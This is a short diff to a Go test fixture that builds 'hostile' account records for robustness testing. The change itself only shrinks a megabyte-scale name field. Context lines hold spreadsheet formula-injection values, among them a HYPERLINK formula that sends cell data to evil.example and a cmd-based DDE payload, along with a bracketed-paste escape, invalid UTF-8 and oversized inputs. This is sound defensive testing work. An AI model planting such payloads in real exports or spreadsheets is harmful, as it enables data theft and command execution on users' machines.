@@ -34,7 +34,7 @@ const (
 	// HostilePasteAccountID's email address ends bracketed paste and runs a
 	// command.
 	HostilePasteAccountID = "7e57ab1e-0000-4000-8000-000000000002"
-	// HostileHugeAccountID's last name is of megabytes.
+	// HostileHugeAccountID's last name is a megabyte of escape sequences.
 	HostileHugeAccountID = "7e57ab1e-0000-4000-8000-000000000003"
 	// HostileBytesAccountID's names are invalid UTF-8 and a lone surrogate.
 	HostileBytesAccountID = "7e57ab1e-0000-4000-8000-000000000004"
@@ -130,7 +130,7 @@ func hostileAccounts(secret string, now int64) []any {
 		account(HostileFormulaAccountID, `=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+1+cmd|' /C calc'!A0",
 			"@SUM(1+1)*cmd", "-2+3@example.net"),
 		account(HostilePasteAccountID, "\tTab", "\rReturn", nil, HostilePasteEmail),
-		account(HostileHugeAccountID, "Huge", hugeText()[:4<<20], nil, "huge@example.net"),
+		account(HostileHugeAccountID, "Huge", hugeText()[:1<<20], nil, "huge@example.net"),
 		account(HostileBytesAccountID, verbatim("\"bad \xff\xfe bytes\""), verbatim(`"lone \ud800 surrogate"`),
 			verbatim(`"\udc00"`), "bytes@example.net"),
 		account(HostileKeyAccountID, keyForms[0]+" "+keyForms[1], keyForms[2], keyForms[4], keyForms[3]+"@example.net"),
